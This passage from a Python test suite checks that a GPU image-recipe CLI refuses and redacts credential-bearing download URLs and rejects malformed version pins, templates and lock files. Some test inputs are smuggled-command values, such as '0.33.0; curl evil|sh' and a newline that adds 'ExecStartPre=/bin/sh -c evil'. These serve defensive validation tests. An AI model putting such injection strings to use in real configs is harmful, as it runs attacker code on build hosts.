    doc = yaml.safe_load(SHIPPED.read_text())
    *item, name = where
    (doc[item[0]][item[1]] if item else doc)[name] = value
    path = tmp_path / "recipe.yaml"
    path.write_text(yaml.safe_dump(doc, sort_keys=False))
    extra = ["--out-dir", str(tmp_path / "out")] if command[-1] == "render" else []
    return path, run_cli([*command, "-r", path, *extra], capsys)


MIRROR = "https://gpufleet-artifacts.oss-cn-hangzhou.aliyuncs.com/cli/"


@pytest.mark.parametrize(
    "where, value, field, said",
    [
        (
            ("downloads", 0, "url"),
            "https://deploy:SEKRET123PW@artifacts.example.com/dcgm-exporter",
            "recipe.downloads.0.url",
            "has credentials in it (user:password@)",
        ),
        (
            ("downloads", 1, "url"),
            "https://artifacts.example.com/default-counters.csv?X-Amz-Signature=SEKRET123PS",
            "recipe.downloads.1.url",
            "'https://artifacts.example.com/default-counters.csv?***' has a query string",
        ),
        (
            ("apt_repos", 0, "keyring_url"),
            "https://SEKRET123TK@developer.download.nvidia.com/k.gpg",
            "recipe.apt_repos.0.keyring_url",
            "has credentials in it",
        ),
        # the deb line went into the scripts, the builder's command line and sources.list.d in the image (finding 6)
        (
            ("apt_repos", 0, "line"),
            "deb [signed-by=/usr/share/keyrings/k.gpg] https://ci:SEKRET123TK@apt.example.com/ubuntu noble main",
            "recipe.apt_repos.0.line",
            "has credentials in it (user:password@)",
        ),
        (
            ("apt_repos", 0, "line"),
            "deb [signed-by=/usr/share/keyrings/k.gpg]  https:/SEKRET123TK@apt.example.com/ubuntu noble main",
            "recipe.apt_repos.0.line",
            "has credentials in it (user:password@)",
        ),
        (
            ("apt_repos", 0, "line"),
            "deb [signed-by=/k.gpg] https://apt.example.com/ubuntu?token=SEKRET123TK noble main",
            "recipe.apt_repos.0.line",
            "'https://apt.example.com/ubuntu?***' has a query string",
        ),
        (("tool_mirror",), MIRROR + "?token=SEKRET123TOK&f=", "recipe.tool_mirror", f"'{MIRROR}?***' has a query string"),
        (("tool_mirror",), MIRROR.replace("://", "://u:SEKRET123PW@"), "recipe.tool_mirror", "has credentials in it"),
        # a leading space or one slash hid it: the recipe was accepted, the URL printed by image check (finding 2)
        (("downloads", 0, "url"), " https://u:SEKRET123PW@artifacts.example.com/x", "recipe.downloads.0.url", "has credentials"),
        (("downloads", 0, "url"), "https:/u:SEKRET123PW@artifacts.example.com/x", "recipe.downloads.0.url", "has credentials"),
    ],
)
@pytest.mark.parametrize("command", [["image", "check"], ["image", "render"], ["image", "build", "--dry-run"]])
def test_a_download_url_with_credentials_is_refused_and_never_shown(capsys, tmp_path, command, where, value, field, said):
    """A private mirror's user:token@ or a presigned URL's token was rendered into the build scripts (curl's command
    line on the builder, which `ps` shows) and printed by `image build --dry-run`; a recipe is committed."""
    path, r = _run_with(capsys, tmp_path, command, where, value)
    refused(r, f"{path}: {field}: {said}", "a recipe is committed")
    assert "SEKRET123" not in r.text
    assert not (tmp_path / "out").exists()


def test_a_templates_folder_that_does_not_exist_is_named(capsys, tmp_path):
    """A misspelt `templates:` folder was passed over: every step rendered from the shipped templates instead."""
    r = run_cli(["image", "check", "-r", variant(tmp_path, templates="my-templtes")], capsys)
    refused(r, "recipe.templates: ", f"{tmp_path / 'my-templtes'} is not a folder")


def _with_step(doc: dict, i: int, **changes) -> dict:
    steps = [dict(s) for s in doc["steps"]]
    steps[i] = {**steps[i], **changes}
    return {**doc, "steps": steps}


@pytest.mark.parametrize(
    "step, changes, field, said",
    [
        (1, {"pin": "drivr"}, "recipe.steps.1.pin", "'drivr' is not a key of pins (did you mean 'driver'?)"),
        (1, {"fact": "driver_pkg"}, "recipe.steps.1.fact", "'driver_pkg' is not a fact of images/facts.py (did you mean"),
        (1, {"fact": None}, "recipe.steps.1.pin", "the step has no fact to compare"),
        (0, {"fact": "file_line", "vars": {}}, "recipe.steps.0", "fact file_line reads vars.path"),
    ],
)
@pytest.mark.parametrize("command", [["image", "check"], ["image", "render"], ["image", "build", "--dry-run"]])
def test_a_step_fact_pin_or_fact_var_that_the_build_cannot_use_is_refused_at_load(
    capsys, tmp_path, step, changes, field, said, command
):
    doc = _with_step(yaml.safe_load(SHIPPED.read_text()), step, **changes)
    assert doc["steps"][1].get("pin", "driver") == changes.get("pin", "driver")  # step 1 is the driver's
    path = tmp_path / "recipe.yaml"
    path.write_text(yaml.safe_dump(doc, sort_keys=False))
    out = tmp_path / "out"
    r = run_cli([*command, "-r", path, *(["--out-dir", out] if command[1] == "render" else [])], capsys)
    refused(r, f"{path}: {field}", said)
    assert not out.exists()


def test_a_manifest_fact_that_is_no_fact_or_needs_a_step_var_is_refused(capsys, tmp_path):
    path = variant(tmp_path, manifest_facts=["nvidia_driver", "nvidia_drivr", "file_line"])
    r = run_cli(["image", "check", "-r", path], capsys)
    refused(
        r,
        "recipe.manifest_facts.1: 'nvidia_drivr' is not a fact of images/facts.py (did you mean 'nvidia_driver'?)",
        "recipe.manifest_facts.2:",
        "file_line reads a step's path var",
    )


def private_key(path: Path, passphrase: bytes | None = None) -> Path:
    """An unencrypted (or passphrase-protected) OpenSSH ed25519 private key at `path`, its public key beside it."""
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    key = Ed25519PrivateKey.generate()
    crypt = serialization.BestAvailableEncryption(passphrase) if passphrase else serialization.NoEncryption()
    path.write_bytes(key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.OpenSSH, crypt))
    path.chmod(0o600)
    pub = key.public_key().public_bytes(serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH)
    path.with_name(path.name + ".pub").write_bytes(pub + b" test\n")
    return path


def _driver_version_null(folder: Path) -> tuple[Path, int]:
    doc = yaml.safe_load(SHIPPED.read_text())
    i = next(i for i, p in enumerate(doc["apt_packages"]) if p["name"].startswith("nvidia-driver-"))
    doc["apt_packages"][i]["version"] = None
    path = folder / "recipe.yaml"
    path.write_text(yaml.safe_dump(doc, sort_keys=False))
    return path, i


def test_a_driver_package_without_a_version_yet_is_a_build_blocker_not_a_crash(capsys, tmp_path):
    path, i = _driver_version_null(tmp_path)
    checked = run_cli(["image", "check", "-r", path, "--json"], capsys)
    assert checked.code == 0, checked.text  # null is allowed until known: not a clash of the line
    import json

    blockers = json.loads(checked.out)["recipes"][0]["before_a_real_build"]
    assert {"field": f"recipe.apt_packages.{i}.version", "message": blockers[0]["message"]} in blockers
    plan = run_cli(["image", "build", "-r", path, "--dry-run"], capsys)
    assert plan.code == 0, plan.text
    assert f"before a real build: recipe.apt_packages.{i}.version: missing:" in plan.out
    key = private_key(tmp_path / "key")
    built = run_cli(["image", "build", "-r", path, "-H", "127.0.0.1", "-k", key, "--known-hosts", tmp_path / "kh"], capsys)
    refused(built, f"{path}: recipe.apt_packages.{i}.version: missing: nvidia-driver-")


@pytest.mark.parametrize(
    "pin, value, said",
    [
        ("driver", "r580", "recipe.pins.driver: 'r580' is not a version: write the driver's version, e.g. 580.95.05"),
        ("cuda", "thirteen", "recipe.pins.cuda: 'thirteen' is not a version: write major.minor, e.g. 13.0"),
        ("python", "py3", "recipe.pins.python: 'py3' is not a version: write 3.minor, e.g. 3.12"),
        # review F1: these four were free text, written into the serving unit (a newline there added a line to it)
        ("vllm", "0.33.0\nExecStartPre=/bin/sh -c evil", "recipe.pins.vllm: '0.33.0\\nExecStartPre=/bin/sh -c evil' is not a"),
        ("vllm", "0.33.0; curl evil|sh", "recipe.pins.vllm: '0.33.0; curl evil|sh' is not a version"),
        ("torch", "2.14.0\nX=evil", "recipe.pins.torch: '2.14.0\\nX=evil' is not a version"),
        ("torch", "2.14.0+cu130", "recipe.pins.torch: '2.14.0+cu130' is not a version"),  # the check cuts pip's at +
        ("dcgm", "4.4.1\nX=evil", "recipe.pins.dcgm: '4.4.1\\nX=evil' is not a version"),
        ("dcgm", "1:4.4.1-1", "recipe.pins.dcgm: '1:4.4.1-1' is not a version: write DCGM's release, without the Debian"),
        ("node_exporter", "1.7.0\nX=evil", "recipe.pins.node_exporter: '1.7.0\\nX=evil' is not a version"),
        ("nccl", "2.21 5", "recipe.pins.nccl: '2.21 5' is not a version: write one word"),  # a pin of the recipe's own
    ],
)
@pytest.mark.parametrize(
    "command",
    [["image", "check"], ["image", "build", "--dry-run"], ["image", "check", "--gpu", "A10"], ["image", "render", "--out-dir"]],
)
def test_a_pin_that_is_no_version_is_refused(capsys, tmp_path, pin, value, said, command):
    pins = {**yaml.safe_load(SHIPPED.read_text())["pins"], pin: value}
    path = variant(tmp_path, pins=pins)
    r = run_cli([*command, *([tmp_path / "out"] if command[-1] == "--out-dir" else []), "-r", path], capsys)
    refused(r, f"{path}: {said}")
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(
    "pin, value", [("vllm", "0.6.3.post1"), ("vllm", "0.10.1.1"), ("torch", "2.8.0rc1"), ("dcgm", "3.3.9"), ("nccl", "2.21.5")]
)
def test_pins_in_the_forms_their_projects_release_load(tmp_path, pin, value):
    pins = {**yaml.safe_load(SHIPPED.read_text())["pins"], pin: value}
    assert load_recipe(str(variant(tmp_path, pins=pins))).pins[pin] == value


def test_a_recipe_pinning_no_gpu_line_checked_against_a_gpu_or_a_lock_is_a_failed_check(capsys, tmp_path):
    from selftest_recipe import write_recipe

    path = write_recipe(tmp_path)  # gpus: [], pins: {app: ...}
    r = run_cli(["image", "check", "-r", path, "--gpu", "A10"], capsys)
    assert r.code == 1, r.text
    assert "Traceback" not in r.text
    assert f"{path}: recipe.gpus: recipe selftest does not serve A10: it pins no driver, cuda, torch" in r.err
    doc = {**yaml.safe_load(path.read_text()), "python_lock": "locks/cuda13-vllm.txt"}
    path = tmp_path / "with-lock.yaml"  # another file: recipes are cached by path
    path.write_text(yaml.safe_dump(doc, sort_keys=False))
    r = run_cli(["image", "check", "-r", path], capsys)
    assert r.code == 1, r.text
    assert "the recipe pins no vllm to check locks/cuda13-vllm.txt against: add pins.vllm" in r.err


@pytest.mark.parametrize(
    "text, said",
    [
        (b"{% block check %}\ntrue\n{% endblok %}\n", ".sh.j2:3: template syntax error: Encountered unknown tag 'endblok'"),
        (
            b"{% block check %}\ntrue\n{% endblock %}\n{% block apply %}\n{{ vars.nope }}\n{% endblock %}\n",
            ".sh.j2:5: cannot render:",
        ),
        (b"{% block apply %}\ntrue\n{% endblock %}\n", ".sh.j2: has no `{% block check %}`"),
        (b"\xff\xfe{% block check %}", ".sh.j2: is not UTF-8 text"),
    ],
    ids=["syntax", "undefined", "no-check", "not-utf8"],
)
@pytest.mark.parametrize("command", [["image", "check"], ["image", "render"], ["image", "build", "--dry-run"]])
def test_a_step_template_that_cannot_be_rendered_is_refused_naming_file_line_and_step(capsys, tmp_path, text, said, command):
    from selftest_recipe import write_recipe

    (tmp_path / "tpl").mkdir()
    (tmp_path / "tpl" / "bad.sh.j2").write_bytes(text)
    path = write_recipe(tmp_path, steps=[{"name": "s", "template": "bad"}])
    doc = {**yaml.safe_load(path.read_text()), "templates": "tpl"}
    path.write_text(yaml.safe_dump(doc, sort_keys=False))
    out = tmp_path / "out"
    r = run_cli([*command, "-r", path, *(["--out-dir", out] if command[1] == "render" else [])], capsys)
    refused(r, f"{path}: recipe.steps.0.template: {tmp_path / 'tpl' / 'bad'}{said}", "(step s)")
    assert not r.out.startswith("ok"), r.out
    assert not out.exists()


@pytest.mark.parametrize("where", ["checkout", "elsewhere"])
def test_messages_name_recipe_files_by_a_path_that_exists_from_the_current_folder(capsys, tmp_path, monkeypatch, where):
    """They were relative to src/gpufleet (images/recipes/...): a user following them edited a file the tool never reads."""
    root = RECIPES.parents[3]  # the checkout: src/gpufleet/images/recipes
    monkeypatch.chdir(root if where == "checkout" else tmp_path)
    shown = "src/gpufleet/images/recipes/cuda13-vllm.yaml" if where == "checkout" else str(SHIPPED)
    r = run_cli(["image", "check", "-r", "cuda13-vllm", "--gpu", "V100-16G"], capsys)
    assert r.code == 1 and f"error {shown}: recipe.gpus:" in r.err, r.text
    assert (Path.cwd() / shown).is_file()
    r = run_cli(["image", "check", "-r", "nope"], capsys)
    # the checkout is a project: a missing name is named where the project's recipe of that name would be
    missing = "images/recipes/nope.yaml" if where == "checkout" else shown.replace("cuda13-vllm", "nope")
    refused(r, f"error {missing}: no such image recipe 'nope'")


def test_out_dir_dash_is_refused_not_made_a_folder(capsys, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    r = run_cli(["image", "render", "-r", "cuda13-vllm", "--out-dir", "-"], capsys)
    refused(r, "--out-dir: -: give a folder: - (standard output) cannot hold several files")
    assert list(tmp_path.iterdir()) == []


def test_render_refuses_a_recipe_that_does_not_hold_together_as_build_does(capsys, tmp_path):
    """Review F3: a recipe `image check` fails (exit 1) and `image build` refuses (exit 2) was rendered by `image render`
    (exit 0, 15 scripts). Bad input creates nothing: render refuses it as build does, with the same problems."""
    path = variant(tmp_path, pins={**yaml.safe_load(SHIPPED.read_text())["pins"], "vllm": "0.32.0"})
    said = [
        f"{path}: recipe.pins.vllm: vllm 0.32.0 has no row in images/compat.yaml vllm_lines",
        f"{path}: recipe.python_lock: locks/cuda13-vllm.txt pins vllm 0.33.0, the recipe 0.32.0; regenerate it",
    ]
    checked = run_cli(["image", "check", "-r", path], capsys)
    assert checked.code == 1 and all(w in checked.err for w in said), checked.text
    refused(run_cli(["image", "build", "-r", path, "--dry-run"], capsys), *said)
    refused(run_cli(["image", "render", "-r", path, "--out-dir", tmp_path / "out"], capsys), *said)
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("x==1 \\\r\n    HASH\r\n", "(Windows line ends (CRLF): save the lock with LF line ends)"),
        ("--extra-index-url https://download.pytorch.org/whl/cu130\nx==1 HASH\n", "(a pip option (--index-url, ...)"),
        ("numpy==2.1.0 ; python_full_version >= '3.10' \\\n    HASH\n", "(an environment marker (; ...)"),
    ],
)
def test_a_lock_line_pip_would_take_but_the_lock_does_not_says_what_it_is(text, says):
    """pip-compile and uv write these, and pip reads them; a hash lock here holds requirements, hashes and comments only
    (docs/images.md), so the refusal names which of them the line is, and nothing else is added for a plain bad line."""
    from gpufleet.images.steps import lock_lines_problem

    problem = lock_lines_problem(text.replace("HASH", HASH))
    assert problem is not None and problem.startswith("is not a pip hash lock: line") and says in problem, problem
    hints = ("(Windows line ends", "(a pip option", "(an environment marker")
    assert [h for h in hints if h in problem] == [h for h in hints if says.startswith(h)]  # that one alone
    assert lock_lines_problem("bad\n").endswith("a # comment or blank")


def test_a_cloud_cli_with_no_sha256_says_how_to_pin_it_in_the_recipe(tmp_path):
    """Review M5: `image check` said `recipe.downloads.2.sha256: missing` of the cloud CLIs the profiles add (indexes the
    recipe file does not have): the way to pin one, a downloads entry with its dest and sha256, was in a docstring only."""
    from gpufleet.images.steps import build_blockers

    recipe = load_recipe(str(SHIPPED))
    said = dict(build_blockers(recipe))
    ossutil = next(i for i, d in enumerate(recipe.downloads) if d.dest == "/usr/local/bin/ossutil")
    assert (
        "pin it in the recipe, a downloads entry with dest /usr/local/bin/ossutil and its sha256"
        in said[f"recipe.downloads.{ossutil}.sha256"]
    )
    assert "pin it in the recipe" not in said["recipe.downloads.0.sha256"]  # the recipe file's own dcgm-exporter
    doc = yaml.safe_load(SHIPPED.read_text())
    pinned = {"name": "ossutil", "url": f"{doc['tool_mirror']}ossutil", "sha256": "a" * 64, "dest": "/usr/local/bin/ossutil"}
    said = dict(build_blockers(load_recipe(str(variant(tmp_path, downloads=[*doc["downloads"], pinned])))))
    assert not any("/usr/local/bin/ossutil" in m or "/cli/ossutil" in m for m in said.values()), said


@pytest.mark.parametrize("where", ["checkout", "elsewhere"])
def test_a_recipes_gpu_kind_and_region_are_checked_against_the_package_files_by_a_path_that_exists(
    capsys, tmp_path, monkeypatch, where
):
    """Review M6: `'H100' is not a GPU kind of stacks/data/gpus.yaml` read as the project's stacks/ (no such file there, in
    a wheel user's project or in the checkout): the package's file is named as other package files are."""
    from gpufleet.stacks import catalog

    path = variant(tmp_path, gpus=["H100"], regions={"alicloud": ["cn-hangzhuo"]})
    monkeypatch.chdir(RECIPES.parents[3] if where == "checkout" else tmp_path)
    gpus, alicloud = catalog.gpus_file(), catalog.catalog_file("alicloud")
    if where == "checkout":
        assert (gpus, alicloud) == ("src/gpufleet/stacks/data/gpus.yaml", "src/gpufleet/stacks/data/alicloud.yaml")
    assert (Path.cwd() / gpus).is_file() and (Path.cwd() / alicloud).is_file()
    r = run_cli(["image", "check", "-r", path], capsys)
    refused(r, f"'H100' is not a GPU kind of {gpus}", f"'cn-hangzhuo' is not a region of {alicloud}")
